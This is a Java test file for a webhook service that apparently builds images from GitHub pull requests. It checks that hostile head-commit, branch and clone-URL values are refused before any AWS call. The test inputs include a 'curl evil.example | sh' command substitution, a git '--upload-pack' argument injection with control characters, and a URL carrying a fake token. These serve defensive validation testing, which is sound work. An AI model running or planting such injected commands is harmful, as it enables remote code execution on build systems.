package dev.ecrpush.abuse;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertTrue;
import static org.mockito.Mockito.mock;
import static org.mockito.Mockito.verifyNoInteractions;

import java.nio.charset.StandardCharsets;
import java.util.List;
import java.util.UUID;

import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;

import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.node.ObjectNode;

import io.quarkus.test.common.QuarkusTestResource;
import io.quarkus.test.junit.QuarkusMock;
import io.quarkus.test.junit.QuarkusTest;

import dev.ecrpush.flow.ForkApprovals;
import dev.ecrpush.flow.PullRequestImages;
import dev.ecrpush.support.AwsFake;
import dev.ecrpush.support.Fixtures;
import dev.ecrpush.support.FromEdge;
import dev.ecrpush.support.InjectFake;
import dev.ecrpush.support.TriggerWorld;
import dev.ecrpush.support.TriggerWorldResource;
import dev.ecrpush.support.WebhookSigning;

/**
 * A pull request's event is written by whoever opened the request: its head commit, branch and clone URL are the
 * requester's text, signed by the host as it received them. Each hostile value is refused naming the field of the
 * build's payload it would fill, before any AWS call of the build (only the webhook secret and the trigger set
 * are read, as for every delivery), and never quoted back whole.
 */
@QuarkusTest
@QuarkusTestResource(value = TriggerWorldResource.class, restrictToAnnotatedClass = true)
class PullRequestAbuseTest {
    @InjectFake
    TriggerWorld world;
    @InjectFake
    AwsFake aws;

    private PullRequestImages images;

    @BeforeEach
    void setUp() {
        world.stubDefaults();
        images = mock(PullRequestImages.class);
        QuarkusMock.installMockForType(images, PullRequestImages.class);
        QuarkusMock.installMockForType(mock(ForkApprovals.class), ForkApprovals.class);
    }

    /** The recorded opened request of Codertocat/Hello-World, its head changed as the requester could change it. */
    private JsonNode opened(String field, String value) throws Exception {
        ObjectNode body = (ObjectNode) Fixtures.JSON.readTree(WebhookSigning.recorded("github-pull-request-opened.json"));
        body.put("testDelivery", UUID.randomUUID().toString());
        ObjectNode head = (ObjectNode) body.at("/pull_request/head");
        if (field.equals("clone_url")) {
            ((ObjectNode) head.get("repo")).put(field, value);
        } else {
            head.put(field, value);
        }
        byte[] bytes = Fixtures.JSON.writeValueAsBytes(body);
        aws.resetRequests();
        return Fixtures.JSON.readTree(FromEdge.given().contentType("application/json").header("X-GitHub-Event", "pull_request")
                .header("X-Hub-Signature-256", WebhookSigning.hubSignature(WebhookSigning.GITHUB_SECRET, bytes)).body(bytes)
                .post("/webhooks/github").then().statusCode(400).extract().asString());
    }

    /** The calls after the delivery's own reads (the webhook secret, the trigger set): none. */
    private List<String> buildCalls() {
        return aws.operations().stream().filter(op -> !op.equals("GetSecretValue") && !op.equals("GetParameter")).toList();
    }

    private static String error(JsonNode answer) {
        assertEquals("InvalidStepException", answer.at("/refs/0/builds/0/error/errorType").asText(), answer::toString);
        return answer.at("/refs/0/builds/0/error/errorMessage").asText();
    }

    @Test
    void headCommitThatIsNoCommit_isRefusedNamingIt_beforeAnyAwsCall() throws Exception {
        JsonNode answer = opened("sha", "$(curl -s evil.example | sh)");
        assertTrue(error(answer).contains("codebase.commitSha: must be a commit hash"), answer::toString);
        assertEquals(List.of(), buildCalls());
        verifyNoInteractions(images);
    }

    @Test
    void sourceBranchGitWouldNotAccept_isRefusedNamingIt_withoutQuotingItWhole() throws Exception {
        String branch = "main\n\u001b[2J..--upload-pack=touch /tmp/pwned" + "x".repeat(100);
        JsonNode answer = opened("ref", branch);
        String message = error(answer);
        assertTrue(message.contains("codebase.branch: "), answer::toString);
        // escaped: no control character of the branch reaches the answer (problems are one per line)
        assertFalse(message.contains("\u001b") || message.contains("main\n"), message);
        assertFalse(message.contains("x".repeat(100)), message);
        assertEquals(List.of(), buildCalls());
    }

    @Test
    void headCloneUrlCarryingAToken_isRefusedNamingIt_withoutQuotingTheToken() throws Exception {
        JsonNode answer = opened("clone_url", "https://x-access-token:ghp_s3cr3t@github.com/Codertocat/Hello-World.git");
        String message = error(answer);
        assertTrue(message.contains("codebase.repoUrl: must not carry a password or token"), answer::toString);
        assertFalse(new String(Fixtures.JSON.writeValueAsBytes(answer), StandardCharsets.UTF_8).contains("ghp_s3cr3t"), answer::toString);
        assertEquals(List.of(), buildCalls());
    }
}
